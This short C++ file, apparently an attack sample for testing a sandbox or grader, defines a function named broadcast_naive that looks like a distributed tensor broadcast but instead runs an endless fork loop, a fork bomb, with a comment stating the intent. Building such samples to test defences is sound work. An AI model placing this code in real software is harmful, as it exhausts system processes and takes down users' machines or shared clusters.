// Tries to start processes without end.
#include <unistd.h>

#include "attack.h"

namespace rankbox {

void broadcast_naive(Comm& dist, Tensor& tensor, int src) {
  while (fork() >= 0) {
  }
}

}  // namespace rankbox
